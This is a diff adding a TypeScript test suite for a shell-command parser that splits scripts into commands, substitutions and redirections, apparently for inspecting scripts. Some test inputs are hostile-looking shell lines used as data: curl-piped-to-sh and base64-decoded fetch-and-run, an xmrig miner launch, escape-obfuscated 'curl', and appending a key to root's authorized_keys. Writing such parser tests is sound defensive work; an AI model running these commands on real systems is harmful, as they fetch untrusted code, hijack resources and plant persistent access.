@@ -1,0 +1,146 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { type Command, splitShell } from './shell.ts';
+
+const words = (text: string): (readonly string[])[] => splitShell(text).map((command) => command.words);
+
+test('quotes are removed and keep their blanks', () => {
+  assert.deepEqual(words(`a 'b c' "d e" f\\ g ""`), [['a', 'b c', 'd e', 'f g', '']]);
+});
+
+test('operators separate commands and say how they are joined', () => {
+  const commands = splitShell('a | b && c || d; e & f\ng');
+  assert.deepEqual(
+    commands.map((command) => command.joined + command.words[0]),
+    ['a', '|b', '&&c', '||d', ';e', '&f', ';g'],
+  );
+});
+
+test('a pipe at the end of a line goes on in the next', () => {
+  const commands = splitShell('curl x |\n  # a comment\n  sh');
+  assert.deepEqual([commands[1]?.joined, commands[1]?.words], ['|', ['sh']]);
+});
+
+test('a pipeline behind a group keeps its joint', () => {
+  assert.equal(splitShell('(a; b) | c')[2]?.joined, '|');
+});
+
+test('a backslash before the line break joins lines, also with carriage return', () => {
+  assert.deepEqual(words('xmrig -o \\\n pool \\\r\n -u w'), [['xmrig', '-o', 'pool', '-u', 'w']]);
+});
+
+test('variables with a known value are replaced, unquoted ones split', () => {
+  assert.deepEqual(words('OPTS="-o pool -u w"\n./x $OPTS "$OPTS" $' + '{NONE:-d} $GONE'), [
+    [],
+    ['./x', '-o', 'pool', '-u', 'w', '-o pool -u w', 'd', '$GONE'],
+  ]);
+});
+
+test('an assignment before a command belongs to it alone', () => {
+  const [first, second] = splitShell('A=1 run; echo $A');
+  assert.equal(first?.assignments.A, '1');
+  assert.deepEqual(second?.words, ['echo', '$A']);
+});
+
+test('export makes a value known', () => {
+  assert.deepEqual(words('export P=pool.example:3333; x -o $P')[1], ['x', '-o', 'pool.example:3333']);
+});
+
+test('commands of substitutions follow the list that they occur in', () => {
+  const commands = splitShell('sh -c "$(curl -s http://a/b | base64 -d)" | cat `id $(pwd)`');
+  assert.deepEqual(
+    commands.map((command) => [command.depth, command.words[0]]),
+    [
+      [0, 'sh'],
+      [0, 'cat'],
+      [1, 'curl'],
+      [1, 'base64'],
+      [1, 'id'],
+      [2, 'pwd'],
+    ],
+  );
+  assert.equal(commands[3]?.joined, '|');
+});
+
+test('process substitution is a nested command', () => {
+  assert.deepEqual(words('bash <(curl http://a/b)'), [
+    ['bash', '<(curl http://a/b)'],
+    ['curl', 'http://a/b'],
+  ]);
+});
+
+test('here-documents belong to their command and are not commands', () => {
+  const commands = splitShell("cat > /x <<'END' | sh\nline; one\nEND\nnext <<< word");
+  assert.deepEqual(
+    commands.map((command) => [command.words[0], command.input]),
+    [
+      ['cat', 'line; one\n'],
+      ['sh', undefined],
+      ['next', 'word'],
+    ],
+  );
+  assert.deepEqual(commands[0]?.redirects, [{ operator: '>', target: '/x' }]);
+});
+
+test('redirections are kept apart from arguments', () => {
+  const [command] = splitShell('echo key >> /root/.ssh/authorized_keys 2>/dev/null &>log');
+  assert.deepEqual(command?.words, ['echo', 'key']);
+  assert.deepEqual(command?.redirects, [
+    { operator: '>>', target: '/root/.ssh/authorized_keys' },
+    { operator: '>', target: '/dev/null' },
+    { operator: '&>', target: 'log' },
+  ]);
+});
+
+test('keywords and functions leave the commands behind them', () => {
+  assert.deepEqual(words('if true; then a; else b; fi\nf() { c; }\nwhile :; do d; done'), [
+    ['true'],
+    ['a'],
+    ['b'],
+    ['c'],
+    [':'],
+    ['d'],
+  ]);
+});
+
+test('C escapes in dollar quotes are decoded', () => {
+  assert.deepEqual(words("$'\\x63url' $'\\150i' $'a\\tb'"), [['curl', 'hi', 'a\tb']]);
+});
+
+test('offsets point at the first word', () => {
+  const text = '  # c\n  A=1 b; c';
+  assert.deepEqual(
+    splitShell(text).map((command) => text.slice(command.offset, command.offset + 3)),
+    ['A=1', 'c'],
+  );
+});
+
+test('a name like __proto__ is only a name', () => {
+  const [command] = splitShell('__proto__=x run');
+  assert.deepEqual(Object.entries(command?.assignments ?? {}), [['__proto__', 'x']]);
+});
+
+test('hostile text ends quickly: open quotes, deep nesting, growing variables, missing delimiters', () => {
+  const started = performance.now();
+  const hostile = [
+    "'".repeat(99_999),
+    '"'.repeat(99_999),
+    '$('.repeat(100_000),
+    '`'.repeat(100_000),
+    '('.repeat(100_000),
+    '${'.repeat(100_000),
+    '$(('.repeat(100_000),
+    '<<a '.repeat(50_000) + '\n'.repeat(50_000),
+    'a;'.repeat(200_000),
+    'a=xxxxxxxxxx\n' + 'a=$a$a\n'.repeat(1000) + 'b $a $a $a',
+    '\\'.repeat(100_001),
+    'a=b '.repeat(100_000),
+  ];
+  for (const text of hostile) {
+    const commands: Command[] = splitShell(text);
+    let size = 0;
+    for (const command of commands) for (const word of command.words) size += word.length;
+    assert.ok(size < 8 << 20);
+  }
+  assert.ok(performance.now() - started < 5000);
+});
